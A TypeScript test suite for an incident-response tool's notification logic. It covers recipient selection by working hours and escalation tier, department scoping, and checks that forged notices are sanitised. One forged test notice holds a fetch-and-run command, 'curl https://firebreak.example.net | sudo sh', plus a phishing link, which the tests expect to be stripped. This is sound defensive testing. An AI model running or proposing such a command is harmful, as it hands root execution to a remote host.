import type { NoticeKind } from '../../src/domain/words';
import { MockActivityEnvironment } from '@temporalio/testing';
import type { Recipient } from '../../activities/notify';
import type { Authority } from '../../activities';
import { createActivities } from '../../activities';
import { FirebreakError } from '../../src/domain/errors';
import { FLOOD_LIMITS } from '../../src/domain/numbers';
import { respondOrder, respondUse } from '../../src/domain/order';
import { sampleOrder } from '../support/incident-samples';
import type { Notice, Person } from '../../src/domain/notice';
import type { ActivityDeps } from '../../src/ports/activity-deps';

const NIGHT = new Date('2026-11-20T03:00:00Z');
const by = (id: string, changes: Partial<Person> = {}): Person => ({
  id,
  name: id,
  audience: 'security',
  locale: 'en',
  mail: `${id}@example.com`,
  tier: 1,
  ...changes,
});
const ORDER = sampleOrder(NIGHT.toISOString(), { incident: 'INC-20261120-7F3K' as Notice['incident'] });
const AUTHORITY = { grantId: 'respond', use: respondUse(ORDER.incident, 'run') };
const OFFICE_HOURS = { hours: '09:00-17:00', timeZone: 'UTC' };
const notice = (kind: NoticeKind, severity: Notice['severity'] = 'high'): Notice => ({
  incident: 'INC-20261120-7F3K' as Notice['incident'],
  kind,
  key: kind,
  severity,
  type: 'intrusion',
  mode: 'block',
  drill: false,
  title: 'attack on web-1',
  hosts: ['web-1'],
  facts: [],
});

function world(people: readonly Person[]) {
  const sent: Notice[] = [];
  const deps = {
    site: { people, temporalUi: 'https://temporal.example.org', namespace: 'firebreak' },
    authorisation: {
      confirm: (grantId: string) => {
        const escalate = { action: 'escalate', incident: ORDER.incident, reason: 'two hosts at once' };
        const known: Readonly<Record<string, object>> = {
          respond: { order: respondOrder(ORDER), operator: ORDER.operator },
          escalate: { order: escalate, operator: 'bob' },
          elsewhere: { order: { ...escalate, incident: 'INC-20261120-8G4M' }, operator: 'bob' },
        };
        const found = known[grantId];
        return found === undefined ? Promise.reject(new FirebreakError('GRANT_UNKNOWN')) : Promise.resolve(found);
      },
    },
    incidents: { find: () => Promise.resolve({ order: ORDER, title: 'attack on web-1', assessment: null }) },
    ledger: { append: () => Promise.resolve() },
    senders: [
      {
        channel: 'mail',
        addressOf: (person: Person) => person.mail,
        send: () => Promise.resolve({ possibleDouble: false }),
      },
    ],
    renderer: {
      render: (told: Notice) => {
        sent.push(told);
        return { subject: '', body: '' };
      },
    },
    responses: { recordDelivery: () => Promise.resolve() },
    now: () => NIGHT,
  } as unknown as ActivityDeps;
  const activities = createActivities(deps).notify;
  return {
    sent,
    told: async (what: Notice, tier = 1) => {
      const recipients: readonly Recipient[] = await new MockActivityEnvironment().run(activities.resolveRecipients, {
        notice: what,
        tier,
      });
      return recipients.map(({ person }) => person);
    },
    deliver: (what: Notice, person: string, spoken?: Authority, authority: Authority = AUTHORITY) => {
      const said = spoken === undefined ? {} : { spoken };
      const input = { notice: what, person, channel: 'mail', authority, ...said } as const;
      return new MockActivityEnvironment().run(activities.deliver, input);
    },
  };
}

describe('who is told', () => {
  const day = by('day', OFFICE_HOURS);
  const night = by('night', { hours: '22:00-06:00', timeZone: 'UTC' });
  const boss = by('boss', { audience: 'management', ...OFFICE_HOURS });

  test('N4 outside their hours people are left out, unless the incident is critical', async () => {
    expect(await world([day, night]).told(notice('start'))).toEqual(['night']);
    expect(await world([day, night]).told(notice('start', 'critical'))).toEqual(['day', 'night']);
  });

  test.each<NoticeKind>(['start', 'manual-response', 'control-failed', 'escalation', 'emergency', 'failure'])(
    'N1 %s at 03:00 with nobody of the security team on duty wakes the team, not the management',
    async (kind) => {
      expect(await world([day, boss]).told(notice(kind))).toEqual(['day']);
    },
  );

  test.each<NoticeKind>(['delay', 'release', 'drift'])('N4 %s can wait for the morning', async (kind) => {
    expect(await world([day]).told(notice(kind))).toEqual([]);
  });
});

describe('N4 who is escalated to', () => {
  const [alice, bob, carol, dave] = [
    by('alice'),
    by('bob', { tier: 2 }),
    by('carol', { tier: 2 }),
    by('dave', { tier: 3 }),
  ];

  test('is the next tier, whoever was told before', async () => {
    expect(await world([alice, bob, carol, dave]).told(notice('escalation'), 2)).toEqual(['alice', 'bob', 'carol']);
  });

  test('is the tier after, where there is none, or nobody of it is on duty', async () => {
    expect(await world([alice, dave]).told(notice('escalation'), 2)).toEqual(['alice', 'dave']);
    const asleep = [alice, { ...bob, ...OFFICE_HOURS }, dave];
    expect(await world(asleep).told(notice('escalation'), 2)).toEqual(['alice', 'dave']);
  });

  test('is woken when nobody else is left, although those before are awake', async () => {
    expect(await world([alice, { ...bob, ...OFFICE_HOURS }]).told(notice('escalation'), 2)).toEqual(['alice', 'bob']);
  });

  test('is told again who knows already, when nobody comes after them', async () => {
    expect(await world([alice]).told(notice('escalation'), 2)).toEqual(['alice']);
  });
});

test('N1 a department hears of incidents that touch its hosts, or of all when it names none', async () => {
  const department = (id: string, hosts?: readonly string[]) =>
    by(id, { audience: 'department', ...(hosts === undefined ? {} : { hosts }) });
  const people = [department('shop', ['web-1', 'web-2']), department('payroll', ['db-9']), department('board')];
  expect(await world(people).told(notice('completion'))).toEqual(['shop', 'board']);
});

describe('a late step', () => {
  const team = [by('alice'), by('bob', { tier: 2 }), by('carol', { tier: 2 }), by('dave', { tier: 3 })];

  test('B13 names who can be called in next', async () => {
    const { deliver, sent } = world(team);
    await deliver(notice('delay'), 'alice');
    expect(sent[0]?.facts).toEqual([{ fact: 'next-people', people: ['bob', 'carol'] }]);
  });

  test('B13 says nothing of the kind where there is nobody else, and in other notices', async () => {
    const alone = world([by('alice')]);
    await alone.deliver(notice('delay'), 'alice');
    const { deliver, sent } = world(team);
    await deliver(notice('drift'), 'alice');
    const loaded = { fact: 'host-loaded', host: 'web-1', percent: 97 } as const;
    await deliver({ ...notice('delay'), key: 'delay-load-web-1', facts: [loaded] }, 'alice');
    expect([...alone.sent, ...sent].flatMap(({ facts }) => facts)).toEqual([loaded]);
  });
});

describe('H1 what is told is what was signed, and coded facts', () => {
  const forged: Notice = {
    ...notice('approval-needed', 'critical'),
    title: 'sign in at https://firebreak.example.net',
    hosts: ['https://firebreak.example.net'],
    mode: 'isolate',
    drill: true,
    link: 'https://firebreak.example.net',
    nextAction: 'curl https://firebreak.example.net | sudo sh',
    facts: [{ fact: 'in-words', words: 'Firebreak itself is compromised', by: 'alice' }],
  };

  test('H1 title, hosts, mode and drill are the incident’s own; free words, links and foreign commands are left out', async () => {
    const { deliver, sent } = world([by('alice')]);
    await deliver(forged, 'alice');
    expect(sent[0]).toMatchObject({
      title: 'attack on web-1',
      hosts: ORDER.hosts,
      mode: ORDER.mode,
      drill: false,
      facts: [],
      nextAction: `firebreak status ${ORDER.incident}`,
    });
    expect(sent[0]?.link).toBe(`https://temporal.example.org/namespaces/firebreak/workflows/${ORDER.incident}`);
    expect(JSON.stringify(sent)).not.toContain('firebreak.example.net');
  });

  test('H1 N6 a person’s words are those of the order that they signed', async () => {
    const { deliver, sent } = world([by('alice')]);
    await deliver(forged, 'alice', { grantId: 'escalate', use: 'escalate:1' });
    await deliver(forged, 'alice', { grantId: 'elsewhere', use: 'escalate:2' }).catch(() => undefined);
    expect(sent.map(({ facts }) => facts)).toEqual([[{ fact: 'in-words', by: 'bob', words: 'two hosts at once' }]]);
  });

  test('H8 nobody is flooded through us: unauthorised tries in all, and messages to one person, are bounded', async () => {
    const { deliver, sent } = world([by('alice'), by('bob')]);
    const tried: Notice = { ...notice('unauthorised'), facts: [] };
    const told = async (what: Notice, times: number): Promise<unknown[]> => {
      const refused: unknown[] = [];
      for (let n = 0; n < times; n += 1)
        await deliver(what, n % 2 === 0 ? 'alice' : 'bob').catch((thrown: unknown) => refused.push(thrown));
      return refused;
    };
    expect(await told(tried, FLOOD_LIMITS.unauthorisedMessages)).toEqual([]);
    expect(await told(tried, 2)).toMatchObject([{ type: 'CHANNEL_RATE_LIMITED' }, { type: 'CHANNEL_RATE_LIMITED' }]);
    expect(sent).toHaveLength(FLOOD_LIMITS.unauthorisedMessages);
    // What has an order behind it still gets through.
    expect(await told(notice('emergency'), 1)).toEqual([]);
  });

  test('B15 a notice that something was tried without authority needs no order, and tells nothing else', async () => {
    const { deliver, sent } = world([by('alice')]);
    const refusal = { fact: 'start-unauthorised', code: 'OTP_INVALID', by: 'mallory' } as const;
    const facts = [refusal, { fact: 'cannot-respond' } as const];
    await deliver({ ...forged, kind: 'unauthorised', facts }, 'alice', undefined, { grantId: 'x', use: 'y' });
    expect(sent[0]?.facts).toEqual([refusal]);
  });
});
